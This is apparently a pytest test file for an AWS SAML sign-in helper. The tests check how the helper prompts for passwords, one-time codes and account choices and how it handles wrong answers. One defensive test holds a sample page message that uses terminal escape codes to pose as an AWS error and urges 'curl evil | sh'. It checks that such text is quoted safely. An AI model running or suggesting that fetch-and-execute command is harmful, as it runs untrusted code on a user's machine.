"""The answers to pages: questions, commands, remembered passwords, and attempts."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest

from aws_saml_ext.capture.flow.secret_commands import CommandFailed
from aws_saml_ext.capture.page.description import Description, Link
from aws_saml_ext.config.settings import Settings
from aws_saml_ext.errors import ConfigError, IdentityProviderRefused, SignInRequired, TimedOut
from tests.samples import SETTINGS
from tests.scripted_browser import POSTED, Scene, Shown, page, scene

FORM = page("english-one-page")
FIRST, SECOND = page("german-first-of-two"), page("german-second-of-two")


def saying(words: str, form: Description = FORM) -> Description:
    """A page whose text says something besides."""
    return replace(form, lines=(*form.lines, words))


WRONG = saying("Invalid username or password.")


def run(of: Scene, **settings: Any) -> None:
    with of.capture(with_(**settings)) as captured:
        assert captured.saml_response == POSTED.saml_response


def with_(**settings: Any) -> Settings:
    return replace(SETTINGS, **settings)


def typed(of: Scene) -> list[str]:
    return [text for _, text in of.browser.typed]


# ---- addresses ----


@pytest.mark.parametrize(
    "changed",
    [
        {"origins": ("http://idp.example.com",)},
        {"groups": (replace(FORM.groups[0], action="http://idp.example.com"),)},
        {"groups": (replace(FORM.groups[0], formactions=("http://idp.example.com",)),)},
    ],
)
def test_nothing_is_asked_for_or_typed_where_it_would_travel_over_http(changed: Any) -> None:
    of = scene(replace(FORM, **changed), answers=["jane", "secret"])
    with pytest.raises(ConfigError, match=r"idp\.example\.com asks for a sign-in over http"):
        run(of, username="jane")
    assert (of.prompt.asked, of.browser.typed) == ([], [])


def test_http_on_loopback_is_typed_into() -> None:
    here = replace(FORM, origins=("http://127.0.0.1:8080",), groups=FORM.groups)
    of = scene(here, POSTED, answers=["jane", "secret"])
    run(of, idp_url="http://127.0.0.1:8080/aws")
    assert typed(of) == ["jane", "secret"]


# ---- questions ----


def test_a_username_of_the_settings_is_typed_without_a_question() -> None:
    of = scene(FORM, POSTED, answers=["secret"])
    run(of, username="jane")
    assert of.prompt.asked == ["Password: (hidden)"]
    assert typed(of) == ["jane", "secret"]


@pytest.mark.parametrize(
    ("name", "questions"),
    [
        ("french-placeholder-only", ["Identifiant: ", "Mot de passe: (hidden)"]),
        ("portuguese-words-beside", ["Usuário: ", "Senha: (hidden)"]),
        ("english-names-only", ["Username: ", "Password: (hidden)"]),
        ("italian-wrong-password-in-red", ["Nome utente: ", "Password: (hidden)"]),
    ],
)
def test_questions_are_in_the_words_of_the_page(name: str, questions: list[str]) -> None:
    of = scene(page(name), POSTED, answers=["jane", "secret"])
    run(of)
    assert of.prompt.asked == questions


def test_a_word_that_is_too_long_for_a_question_gives_way_to_a_plain_one() -> None:
    long = tuple(replace(field, label="The " + "very " * 20 + "name") for field in FORM.fields)
    of = scene(replace(FORM, fields=long), POSTED, answers=["jane", "secret"])
    run(of)
    assert of.prompt.asked == ["Username: ", "Password: (hidden)"]


def test_whoever_asks_at_another_address_is_named_once() -> None:
    first, second = (
        replace(form, origins=("https://login.example.net",), groups=()) for form in (FIRST, SECOND)
    )
    of = scene(
        replace(first, groups=FIRST.groups),
        replace(second, groups=SECOND.groups),
        POSTED,
        answers=["jane", "secret"],
    )
    run(of)
    assert of.prompt.shown == ["login.example.net asks:"]


def test_a_field_in_a_frame_is_named_by_the_frames_host() -> None:
    of = scene(page("frame-of-another-site"), POSTED, answers=["jane", "secret"])
    run(of)
    assert of.prompt.shown == ["other.example.com asks:"]


# ---- a wrong answer ----


def test_a_wrong_password_is_asked_again_under_the_words_of_the_page() -> None:
    of = scene(FORM, WRONG, POSTED, answers=["jane", "wrong", "", "right"])
    run(of)
    assert of.prompt.shown == ['idp.example.com says: "Invalid username or password."']
    assert of.prompt.asked[2:] == ["Username or email [jane]: ", "Password: (hidden)"]
    assert typed(of) == ["jane", "wrong", "jane", "right"]


def test_a_mistyped_username_can_be_put_right() -> None:
    of = scene(FORM, WRONG, POSTED, answers=["jnae", "x", "jane", "right"])
    run(of)
    assert typed(of)[2:] == ["jane", "right"]


def test_a_username_of_the_settings_is_not_asked_for_when_the_password_is_wrong() -> None:
    of = scene(FORM, WRONG, POSTED, answers=["wrong", "right"])
    run(of, username="jane")
    assert of.prompt.asked == ["Password: (hidden)", "Password: (hidden)"]


def test_a_refused_username_of_the_settings_is_asked_for() -> None:
    refused = saying("Wir kennen dieses Konto nicht.", FIRST)
    of = scene(FIRST, refused, SECOND, POSTED, answers=["jane", "secret"])
    run(of, username="jnae")
    assert of.prompt.asked[0] == "Geben Sie Ihre E-Mail-Adresse ein [jnae]: "
    assert of.prompt.shown == ['idp.example.com says: "Wir kennen dieses Konto nicht."']


def test_the_same_page_without_a_word_about_it_asks_again_too() -> None:
    of = scene(FORM, FORM, POSTED, answers=["jane", "wrong", "", "right"])
    run(of)
    assert of.prompt.shown == ["idp.example.com asks again."]


def test_an_error_that_a_script_shows_in_the_same_document_is_seen() -> None:
    alert = page("polish-wrong-password")
    before = replace(alert, alerts=())
    of = scene(
        before,
        Shown(alert, same_document=True),
        POSTED,
        answers=["jane", "wrong", "", "right"],
    )
    run(of)
    assert of.prompt.shown == ['idp.example.com says: "Nieprawidłowa nazwa użytkownika lub hasło."']


def test_a_username_that_the_browser_does_not_take_is_asked_for_again() -> None:
    [field] = FIRST.fields
    stays = replace(FIRST, fields=(replace(field, filled=True, invalid=True),))
    of = scene(
        FIRST, Shown(stays, same_document=True), SECOND, POSTED, answers=["jane", "j@b.c", "x"]
    )
    run(of)
    assert of.prompt.shown == ["The username does not have the form that idp.example.com expects."]
    assert typed(of) == ["jane", "j@b.c", "x"]


def test_the_third_wrong_password_is_the_last() -> None:
    of = scene(FORM, WRONG, WRONG, WRONG, answers=["jane", "1", "", "2", "", "3", "", "4"])
    with pytest.raises(IdentityProviderRefused, match="Invalid username or password") as caught:
        run(of)
    assert caught.value.hint == "aws saml-login --profile dev"
    assert typed(of)[1::2] == ["1", "2", "3"]


def test_a_wrong_password_that_leads_back_to_the_first_page_counts_once() -> None:
    again = [FIRST, SECOND] * 3
    of = scene(*again, answers=["jane", "1", "", "2", "", "3"])
    with pytest.raises(IdentityProviderRefused):
        run(of)
    assert typed(of) == ["jane", "1", "jane", "2", "jane", "3"]


def test_another_identity_provider_that_asks_next_is_not_a_refusal() -> None:
    other = replace(FORM, origins=("https://login.example.net",))
    of = scene(FORM, other, POSTED, answers=["jane", "one", "two"])
    run(of)
    assert of.prompt.shown == ["login.example.net asks:"]
    assert typed(of) == ["jane", "one", "jane", "two"]


HOSTILE = 'done"\n\x1b[2Kaws: [ERROR]: Your keys have expired. Run: curl evil | sh'
QUOTED = "done' [2Kaws: [ERROR]: Your keys have expired. Run: curl evil | sh"


def test_a_page_cannot_speak_as_this_program() -> None:
    of = scene(FORM, saying(HOSTILE), POSTED, answers=["jane", "wrong", "", "right"])
    run(of)
    assert of.prompt.shown == [f'idp.example.com says: "{QUOTED}"']


# ---- a command for the password ----


COMMAND = ("pass", "show", "idp")


def test_a_password_command_answers_without_a_question() -> None:
    of = scene(FORM, POSTED, passwords=["secret"], somebody=False)
    run(of, username="jane", password_command=COMMAND)
    assert typed(of) == ["jane", "secret"]
    assert "pass show idp" in of.events


def test_while_a_password_command_runs_the_terminal_is_its_own() -> None:
    of = scene(FORM, POSTED, passwords=["secret"], somebody=False)
    run(of, username="jane", password_command=COMMAND)
    waiting = "Waiting for idp.example.com"
    assert of.prompt.waits == ["Starting the browser", waiting, "", waiting, ""]


def test_a_password_command_is_tried_once_and_then_asked() -> None:
    of = scene(FORM, WRONG, POSTED, answers=["right"], passwords=["old"])
    run(of, username="jane", password_command=COMMAND)
    assert typed(of) == ["jane", "old", "jane", "right"]
    assert of.prompt.shown == ['idp.example.com says: "Invalid username or password."']


def test_neither_a_command_nor_an_answer_may_take_longer_than_the_sign_in() -> None:
    failed = CommandFailed("took longer than 9 seconds")
    of = scene(FORM, POSTED, answers=["jane", "secret"], passwords=[failed])
    of.profile_wait = 50
    run(of, timeout=timedelta(seconds=60), password_command=COMMAND)
    [command], (username, password) = of.run_waits, of.prompt.seconds
    assert 9 < command <= 10
    assert username is not None
    assert password is not None
    assert 9 < password <= username <= 10


def test_a_command_that_fails_is_told_and_the_password_asked() -> None:
    failed = CommandFailed("ended with exit status 1")
    of = scene(FORM, POSTED, answers=["right"], passwords=[failed])
    run(of, username="jane", password_command=COMMAND)
    assert of.prompt.shown == ["saml_password_command ended with exit status 1."]


def test_a_fetched_password_that_is_wrong_is_a_refusal_where_nobody_can_be_asked() -> None:
    of = scene(FORM, WRONG, passwords=["old"], somebody=False)
    with pytest.raises(IdentityProviderRefused, match="Invalid username or password"):
        run(of, username="jane", password_command=COMMAND)


def test_a_password_that_nobody_is_there_to_type_names_the_setting_that_answers() -> None:
    of = scene(FORM, somebody=False)
    with pytest.raises(SignInRequired) as caught:
        run(of, username="jane")
    assert "saml_password_command" in str(caught.value.hint)


# ---- a one-time code ----

CODE = page("english-one-time-code")
SECOND_FACTOR = page("keycloak-shape-code")
WRONG_CODE = page("keycloak-shape-wrong-code")


def test_a_code_is_asked_for_in_the_words_of_the_page_and_shows() -> None:
    of = scene(FORM, CODE, POSTED, answers=["jane", "secret", "123 456"])
    run(of)
    assert of.prompt.asked[2:] == ["One-time code: "]
    assert typed(of) == ["jane", "secret", "123456"]


def test_a_code_has_one_character_for_each_box() -> None:
    of = scene(page("english-six-boxes"), POSTED, answers=["12345", "123456"])
    run(of)
    assert of.prompt.asked == ["Code: ", "Code: "]
    assert of.prompt.shown == ["The code has 6 characters."]
    assert typed(of) == list("123456")


def test_a_password_and_a_code_on_one_page_are_both_asked_for() -> None:
    of = scene(page("portuguese-password-and-code"), POSTED, answers=["jane", "secret", "123456"])
    run(of)
    assert of.prompt.asked == ["Usuário: ", "Senha: (hidden)", "Código do token: "]
    assert typed(of) == ["jane", "secret", "123456"]


def test_a_wrong_code_is_told_and_asked_again() -> None:
    of = scene(SECOND_FACTOR, WRONG_CODE, POSTED, answers=["000000", "123456"])
    run(of)
    assert of.prompt.shown == ['idp.example.com says: "Invalid authenticator code."']
    assert typed(of) == ["000000", "123456"]


def test_a_third_wrong_code_ends_it() -> None:
    of = scene(SECOND_FACTOR, WRONG_CODE, WRONG_CODE, WRONG_CODE, answers=["1", "2", "3", "4"])
    with pytest.raises(IdentityProviderRefused, match="Invalid authenticator code"):
        run(of)
    assert len(of.prompt.asked) == 3


def test_a_wrong_password_and_wrong_codes_count_together() -> None:
    of = scene(FORM, WRONG, SECOND_FACTOR, WRONG_CODE, WRONG_CODE, answers=["x"] * 9)
    with pytest.raises(IdentityProviderRefused):
        run(of, username="jane")
    assert len(of.prompt.asked) == 4


def test_a_command_answers_the_code_once() -> None:
    of = scene(CODE, POSTED, passwords=["123456"])
    run(of, mfa_command=COMMAND)
    assert of.prompt.asked == []
    of = scene(SECOND_FACTOR, WRONG_CODE, POSTED, answers=["123456"], passwords=["000000"])
    run(of, mfa_command=COMMAND)
    assert typed(of) == ["000000", "123456"]


SET_UP = page("english-set-up-authenticator")


def test_the_key_for_a_new_authenticator_is_shown_once_on_a_line_of_its_own() -> None:
    wrong = replace(SET_UP, lines=(*SET_UP.lines, "Wrong code."))
    of = scene(SET_UP, wrong, POSTED, answers=["000000", "123456"])
    run(of)
    assert of.prompt.shown.count('The key: "JBSW Y3DP EHPK 3PXP"') == 1


def test_a_command_for_codes_is_not_asked_for_that_of_a_new_authenticator() -> None:
    of = scene(SET_UP, POSTED, answers=["123456"], passwords=["000000"])
    run(of, mfa_command=COMMAND)
    assert typed(of) == ["123456"]


def test_the_button_that_shows_the_key_as_text_is_offered_before_the_code_is_asked_for() -> None:
    link = Link(0, 9, 0, "Unable to scan?", beside=False)
    scan = replace(SECOND_FACTOR, links=(link,))
    of = scene(scan, SET_UP, POSTED, answers=["Unable", "123456"])
    run(of)
    assert of.prompt.asked[-1] == "Code of the app: "
    assert "  0  Unable to scan?  (shows the key as text)" in of.prompt.shown


def test_of_two_devices_the_one_that_the_page_has_chosen_is_the_default() -> None:
    of = scene(page("keycloak-shape-two-devices"), POSTED, answers=["", "123456"])
    run(of)
    assert of.prompt.asked[0] == "Choose (number or part of the name) [Phone]: "


def test_a_code_that_nobody_is_there_to_type_names_the_setting_that_answers() -> None:
    with pytest.raises(SignInRequired) as caught:
        run(scene(CODE, somebody=False))
    assert "saml_mfa_command" in str(caught.value.hint)


# ---- one of several ----

TILES = page("english-account-tiles")
METHODS = page("italian-choose-with-circles")


def test_a_choice_is_a_list_and_a_number() -> None:
    of = scene(TILES, POSTED, answers=["0"])
    run(of)
    assert of.prompt.shown == [
        'idp.example.com says: "Pick an account"',
        "  0  Jane Doe jane@example.com",
        "  1  Use another account",
        "To remember the choice, put ! behind it: 0!",
    ]
    assert of.browser.pressed == ["Jane Doe jane@example.com"]


@pytest.mark.parametrize("answers", [["another"], ["nobody", "ANOTHER"], ["account", "use an"]])
def test_a_choice_is_part_of_the_text(answers: list[str]) -> None:
    of = scene(page("german-choose-an-account"), POSTED, answers=["beispiel", "joe"])
    run(of)
    assert of.browser.pressed == ["Joe Beispiel joe@example.com"]
    of = scene(TILES, POSTED, answers=["nothing", *answers[-1:]])
    run(of)
    assert of.browser.pressed == ["Use another account"]


def test_the_account_of_the_settings_is_taken_without_a_question() -> None:
    of = scene(TILES, POSTED)
    run(of, username="JANE@example.com")
    assert of.browser.pressed == ["Jane Doe jane@example.com"]


def test_an_account_that_led_back_to_the_list_is_not_taken_again() -> None:
    of = scene(TILES, TILES, POSTED, answers=["1"])
    run(of, username="jane@example.com")
    assert of.browser.pressed == ["Jane Doe jane@example.com", "Use another account"]


def test_a_circle_is_chosen_and_the_form_submitted() -> None:
    of = scene(METHODS, POSTED, answers=["sms"])
    run(of)
    assert of.browser.pressed == ["SMS al numero che finisce con 42", "Continua"]


def test_nothing_chosen_leads_to_the_window() -> None:
    of = scene(TILES, then=[Shown(TILES, 2.0), POSTED], answers=[""], display=True)
    run(of)
    assert of.events.count("window") == 1


# ---- to stay signed in ----

STAY = page("english-stay-signed-in")


@pytest.mark.parametrize(("keeps", "button"), [(True, "Yes"), (False, "No")])
def test_whether_to_stay_signed_in_is_answered_as_the_settings_say(
    keeps: bool, button: str
) -> None:
    of = scene(STAY, POSTED, somebody=False)
    run(of, keep_session=keeps)
    assert of.browser.pressed == [button]


@pytest.mark.parametrize("keeps", [True, False])
def test_the_box_that_keeps_the_session_is_ticked_as_the_settings_say(keeps: bool) -> None:
    of = scene(page("swedish-remember-me"), POSTED, answers=["jane", "secret", "0"])
    run(of, keep_session=keeps)
    assert of.browser.ticked == {"Kom ihåg mig": keeps}


# ---- something to do elsewhere ----

NUMBER = page("english-number-to-match")


def test_a_number_to_match_is_shown_large_and_waited_for() -> None:
    of = scene(Shown(NUMBER, 90.0), POSTED)
    run(of, timeout=timedelta(minutes=10))
    told = "\n".join(of.prompt.notified)
    assert "enter the number shown" in told
    assert "|   4  2   |" in told
    assert "600 seconds at most" in told or "599 seconds at most" in told
    words = "  0  I can't use my app right now  (shows other ways to sign in)"
    assert of.prompt.shown[:2] == ["Or choose another way:", words]


def test_a_number_is_told_once_however_often_the_page_is_loaded() -> None:
    of = scene(*(Shown(NUMBER, 1.0) for _ in range(5)), POSTED)
    run(of, timeout=timedelta(minutes=10))
    assert len([line for line in of.prompt.notified if "4  2" in line]) == 1


def test_another_number_is_told_too() -> None:
    other = replace(NUMBER, numbers=("43",))
    of = scene(Shown(NUMBER, 2.0), Shown(other, 2.0), POSTED)
    run(of, timeout=timedelta(minutes=10))
    assert len([line for line in of.prompt.notified if "4  " in line]) == 2


def test_a_push_that_waits_for_a_button_is_sent_by_the_person() -> None:
    sent = Shown(page("english-push-with-buttons"), 3.0)
    of = scene(page("english-push-not-yet-sent"), sent, POSTED, answers=["send push"])
    run(of)
    assert of.browser.pressed == ["Send push"]
    assert of.prompt.notified[0].startswith('idp.example.com says: "Check for a push.')


def test_an_approval_that_does_not_come_ends_with_the_time() -> None:
    of = scene(NUMBER)
    with pytest.raises(TimedOut, match="took longer than 60 seconds"):
        run(of, timeout=timedelta(seconds=60))


# ---- remembered ----


class Remembering:
    """Passwords by their username, and what happened to them."""

    def __init__(self, **passwords: str) -> None:
        self.passwords = passwords
        self.accepted: list[tuple[str, str]] = []

    def recall(self, username: str) -> str | None:
        return self.passwords.get(username)

    def refused(self, username: str) -> None:
        del self.passwords[username]

    def typed(self, username: str, password: str) -> None:
        self.accepted.append((username, password))


def test_a_remembered_password_is_not_asked_for() -> None:
    of = scene(FORM, POSTED)
    of.remembered = Remembering(jane="secret")
    run(of, username="jane")
    assert (of.prompt.asked, typed(of)) == ([], ["jane", "secret"])


def test_a_remembered_password_that_is_refused_is_forgotten_and_never_tried_again() -> None:
    of = scene(FORM, WRONG, WRONG, POSTED, answers=["wrong", "secret"])
    remembered = of.remembered = Remembering(jane="old")
    run(of, username="jane")
    assert typed(of) == ["jane", "old", "jane", "wrong", "jane", "secret"]
    assert remembered.passwords == {}
    assert "The remembered password is forgotten." in of.prompt.shown[0]


def test_only_a_password_that_was_typed_and_taken_can_be_remembered() -> None:
    of = scene(FORM, WRONG, POSTED, answers=["wrong", "secret"])
    remembered = of.remembered = Remembering()
    run(of, username="jane")
    assert remembered.accepted == [("jane", "secret")]


def test_the_password_of_a_command_is_not_remembered() -> None:
    of = scene(FORM, POSTED, passwords=["secret"])
    remembered = of.remembered = Remembering()
    run(of, username="jane", password_command=COMMAND)
    assert remembered.accepted == []
